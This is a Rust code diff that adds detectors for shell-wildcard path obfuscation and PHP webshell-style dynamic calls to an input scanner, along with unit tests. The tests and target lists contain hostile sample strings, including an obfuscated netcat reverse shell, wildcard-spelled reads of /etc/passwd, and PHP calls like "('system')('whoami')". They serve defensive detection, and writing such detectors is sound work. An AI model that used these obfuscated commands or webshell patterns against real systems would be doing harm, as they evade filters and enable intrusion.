@@ -564,6 +564,15 @@ fn every_rule(lower: &str, out: &mut Vec<Finding>) {
     }
     whole_value_command(lower, &mut keep);
     net_command(lower, &mut keep);
+    if let Some((start, end)) = wildcard_path(lower) {
+        keep(Finding::new(
+            ThreatType::CommandInjection,
+            Severity::High,
+            0.8,
+            start,
+            end,
+        ));
+    }
     // Shell tricks that only attackers write.
     static TRICK_NEEDLES: std::sync::OnceLock<Needles> = std::sync::OnceLock::new();
     let tricks = Needles::cached(&TRICK_NEEDLES, || {
@@ -929,6 +938,211 @@ const CODE: &[(&str, Severity, f32)] = &[
     ("cos\nsystem", Severity::High, 0.85),
 ];
 
+/// Top-level folders of a Unix system, and the files and programs an attacker reaches
+/// there: what a path spelled with shell wildcards stands for (`/bi[n]/ca?`, `/???/p??s??`).
+const WILDCARD_TOPS: &[&str] = &[
+    "bin", "sbin", "usr", "etc", "dev", "proc", "tmp", "var", "lib", "opt", "root", "home",
+];
+const WILDCARD_TARGETS: &[&str] = &[
+    "bin", "sbin", "usr", "etc", "local", "passwd", "shadow", "group", "hosts", "issue", "environ",
+    "cat", "ls", "id", "sh", "bash", "dash", "zsh", "nc", "ncat", "netcat", "whoami", "uname",
+    "wget", "curl", "python", "python3", "perl", "php", "ruby", "busybox", "chmod", "rm", "echo",
+    "env", "ping", "telnet", "socat", "head", "tail", "less", "more",
+];
+
+/// A path into the system's folders with shell wildcards standing for letters of its names
+/// (`/bi[n]/ca? /et?/pass??`, `/???/??t /???/p??s??`, `/usr/bin/[u]name`): the shell expands
+/// it to `/bin/cat /etc/passwd`, and no filter looking for those words sees them. A glob a
+/// person writes stands for the part that varies (`/home/*/docs`, `/usr/lib/*.so`), not for
+/// letters of `passwd`; a `?` ending a sentence (`/var/log/app.log?`) spells no such name.
+fn wildcard_path(lower: &str) -> Option<(usize, usize)> {
+    let b = lower.as_bytes();
+    memchr::memchr3(b'?', b'[', b'*', b)?;
+    let mut i = 0;
+    while let Some(p) = memchr::memchr(b'/', &b[i..]).map(|p| p + i) {
+        // A path token: starts at `/` after a space, a separator or the value's start.
+        let starts = p == 0 || !matches!(b[p - 1], b'a'..=b'z' | b'0'..=b'9' | b'.' | b'/');
+        let end = b[p..]
+            .iter()
+            .position(|c| !matches!(c, b'a'..=b'z' | b'0'..=b'9' | b'.' | b'_' | b'-' | b'/' | b'?' | b'*' | b'[' | b']' | b'!'))
+            .map_or(b.len(), |e| p + e);
+        i = end.max(p + 1);
+        if !starts {
+            continue;
+        }
+        let token = &lower[p..end];
+        let segments: Vec<&str> = token[1..].split('/').collect();
+        if segments.len() < 2 {
+            continue;
+        }
+        let is_glob = |s: &str| s.contains(['?', '*', '[']);
+        let top_ok = WILDCARD_TOPS.iter().any(|t| glob_matches(segments[0], t))
+            && !segments[0].contains('*');
+        let spelled = segments.iter().any(|s| {
+            is_glob(s)
+                && s.bytes().any(|c| c != b'*')
+                && WILDCARD_TARGETS.iter().any(|t| glob_matches(s, t))
+        });
+        if top_ok && spelled {
+            return Some((p, end));
+        }
+    }
+    None
+}
+
+/// Whether the shell pattern `pattern` (`?`, `*`, `[abc]`, `[a-z]`, `[!x]`) matches all of
+/// `name`. Patterns here are a path segment, so short: the backtracking is bounded.
+fn glob_matches(pattern: &str, name: &str) -> bool {
+    fn class(p: &[u8], c: u8) -> Option<(bool, usize)> {
+        // `p` starts after `[`; returns whether `c` is in the class and the bytes it spans.
+        let mut k = 0;
+        let negated = matches!(p.first(), Some(b'!' | b'^'));
+        if negated {
+            k += 1;
+        }
+        let mut found = false;
+        let mut first = true;
+        while k < p.len() && (p[k] != b']' || first) {
+            if k + 2 < p.len() && p[k + 1] == b'-' && p[k + 2] != b']' {
+                found |= (p[k]..=p[k + 2]).contains(&c);
+                k += 3;
+            } else {
+                found |= p[k] == c;
+                k += 1;
+            }
+            first = false;
+        }
+        (k < p.len()).then_some((found != negated, k + 1))
+    }
+    fn go(p: &[u8], n: &[u8], budget: &mut u32) -> bool {
+        if *budget == 0 {
+            return false;
+        }
+        *budget -= 1;
+        match p.first() {
+            None => n.is_empty(),
+            Some(b'*') => (0..=n.len()).any(|k| go(&p[1..], &n[k..], budget)),
+            Some(b'?') => !n.is_empty() && go(&p[1..], &n[1..], budget),
+            Some(b'[') => match (n.first(), class(&p[1..], n.first().copied().unwrap_or(0))) {
+                (Some(_), Some((true, len))) => go(&p[1 + len..], &n[1..], budget),
+                (Some(_), Some((false, _))) => false,
+                // An unclosed `[` is a plain character.
+                (Some(&c), None) => c == b'[' && go(&p[1..], &n[1..], budget),
+                (None, _) => false,
+            },
+            Some(&c) => n.first() == Some(&c) && go(&p[1..], &n[1..], budget),
+        }
+    }
+    pattern.len() <= 32 && go(pattern.as_bytes(), name.as_bytes(), &mut 2_000)
+}
+
+/// PHP calling a function whose name is data: a variable read through an offset
+/// (`$_[o](4)`, `$OOO000000{0}(15)`, `$d['o'](9)`), a method named by a variable
+/// (`$foo->$name()`), or a string called (`('system')('id')`, `(system)('uname')`). Webshells
+/// hide their calls this way; JavaScript writes none of the first and last shapes.
+fn php_dynamic_call(lower: &str) -> Option<Finding> {
+    let b = lower.as_bytes();
+    let ident = |from: usize| {
+        b[from.min(b.len())..]
+            .iter()
+            .take_while(|c| c.is_ascii_alphanumeric() || **c == b'_')
+            .count()
+    };
+    let skip_blanks = |mut k: usize| {
+        while k < b.len() && b[k] == b' ' {
+            k += 1;
+        }
+        k
+    };
+    for p in memchr::memchr_iter(b'$', b) {
+        let name = ident(p + 1);
+        if name == 0 {
+            continue;
+        }
+        let method = p >= 2 && &b[p - 2..p] == b"->";
+        let mut k = p + 1 + name;
+        let mut offsets = 0;
+        // Offsets that are quoted names (`$callbacks['onSave']($record)`) are also how PHP
+        // code calls a callback from a table: such a call in a sentence stays a mention (the
+        // demotion in `detect_code`); braces, bare words and numbers (`$_[o](4)`,
+        // `$O0O{0}(15)`) are how obfuscated shells write it.
+        let mut quoted_offsets = true;
+        while let Some(&open @ (b'[' | b'{')) = b.get(k) {
+            let close = if open == b'[' { b']' } else { b'}' };
+            // An empty offset (`$a[]()`) is a syntax error in PHP, not a call.
+            let Some(len) = b[k + 1..]
+                .iter()
+                .take(24)
+                .position(|c| *c == close)
+                .filter(|len| *len > 0)
+            else {
+                break;
+            };
+            quoted_offsets &= open == b'[' && matches!(b[k + 1], b'\'' | b'"');
+            k += len + 2;
+            offsets += 1;
+        }
+        if b.get(skip_blanks(k)) != Some(&b'(') {
+            continue;
+        }
+        if offsets > 0 {
+            let confidence = if quoted_offsets { 0.8 } else { 0.85 };
+            return Some(Finding::new(
+                ThreatType::CodeInjection,
+                Severity::High,
+                confidence,
+                p,
+                k + 1,
+            ));
+        }
+        if method {
+            return Some(Finding::new(
+                ThreatType::CodeInjection,
+                Severity::Medium,
+                0.6,
+                p - 2,
+                k + 1,
+            ));
+        }
+    }
+    // `('system')(`, `("exec")(`, `(system)('`.
+    for p in memchr::memchr_iter(b')', b) {
+        let after = skip_blanks(p + 1);
+        if b.get(after) != Some(&b'(') {
+            continue;
+        }
+        let Some(open) = lower[..p].rfind('(') else {
+            continue;
+        };
+        let inner = lower[open + 1..p].trim();
+        let quoted = inner.len() > 2
+            && matches!(inner.as_bytes()[0], b'\'' | b'"')
+            && inner.as_bytes()[inner.len() - 1] == inner.as_bytes()[0];
+        let name = if quoted {
+            &inner[1..inner.len() - 1]
+        } else {
+            inner
+        };
+        if name.is_empty() || !name.bytes().all(|c| c.is_ascii_alphanumeric() || c == b'_') {
+            continue;
+        }
+        let argument_quoted = matches!(b.get(skip_blanks(after + 1)), Some(b'\'' | b'"'));
+        let runs = EXEC_FUNCTIONS
+            .iter()
+            .any(|f| f.strip_suffix('(') == Some(name));
+        if quoted || (runs && argument_quoted) {
+            return Some(Finding::new(
+                ThreatType::CodeInjection,
+                Severity::High,
+                0.85,
+                open,
+                after + 1,
+            ));
+        }
+    }
+    None
+}
+
 /// Interpreter functions that run what they are given.
 const EXEC_FUNCTIONS: [&str; 10] = [
     "system(",
@@ -1011,6 +1225,10 @@ pub fn detect_code(text: &str, lower: &str, out: &mut Vec<Finding>) {
             best.keep(f);
         }
     }
+    if let Some(f) = php_dynamic_call(lower) {
+        signs += 1;
+        best.keep(f);
+    }
     // Serialized Java (raw hex, base64) and gzip in base64, in one pass.
     const MAGIC: [&str; 3] = ["rO0AB", "aced0005", "H4sIAAAAAAAA"];
     static MAGIC_NEEDLES: std::sync::OnceLock<Needles> = std::sync::OnceLock::new();
@@ -1058,6 +1276,69 @@ mod tests {
         detect(&lower, &mut out);
         detect_code(text, &lower, &mut out);
         out.iter().map(|f| f.severity).max()
+    }
+
+    #[test]
+    fn system_paths_spelled_with_wildcards_are_commands() {
+        for attack in [
+            "/bi[n]/ca? /et?/pass??",
+            "/???/??t /???/p??s??",
+            "/usr/bin/[u]name -a",
+            "/bi[n]/bash",
+            ";/???/n? -e /???/b??h 10.0.0.1 4444",
+            "x=$(/b?n/w?oami)",
+        ] {
+            assert_eq!(severity(attack), Some(Severity::High), "{attack}");
+        }
+        for benign in [
+            "/home/*/docs",
+            "find /usr/lib/*.so files",
+            "where is /var/log/nginx/access.log?",
+            "is it /etc/passwd?",
+            "/api/v1/items?page=2",
+            "match /src/[a-z]*/mod.rs",
+            "https://example.com/bin/ca?x=1",
+        ] {
+            assert_eq!(wildcard_path(benign), None, "{benign}");
+        }
+        assert!(glob_matches("bi[n]", "bin"));
+        assert!(glob_matches("[!x]in", "bin"));
+        assert!(glob_matches("p*d", "passwd"));
+        assert!(!glob_matches("ca?", "cats"));
+        assert!(!glob_matches("[", "b"));
+    }
+
+    #[test]
+    fn php_calls_through_data_are_code_injection() {
+        for attack in [
+            "$OOO000000{0}(15)",
+            "@$__[o](4)",
+            "$d['o'](9)",
+            "('system')('whoami')",
+            "(system)('uname')",
+            "$_GET['a']($_GET['b'])",
+        ] {
+            assert_eq!(severity(attack), Some(Severity::High), "{attack}");
+        }
+        assert_eq!(severity("$foo->$funcname()"), Some(Severity::Medium));
+        // A callback called from a table, quoted in a sentence: a mention.
+        assert_eq!(
+            severity("Fix this: $callbacks['onSave']($record) fails"),
+            Some(Severity::Medium)
+        );
+        for benign in [
+            "price is $5 (about 4 euros)",
+            "the $scope object (angular) and $http",
+            "(0, _react.useState)(0)",
+            "(see above) (and below)",
+            "${name}(s)",
+            "$(\".item\").hide()",
+            "$a[]()",
+            "$a{}()",
+        ] {
+            let lower = benign.to_ascii_lowercase();
+            assert_eq!(php_dynamic_call(&lower), None, "{benign}");
+        }
     }
 
     #[test]
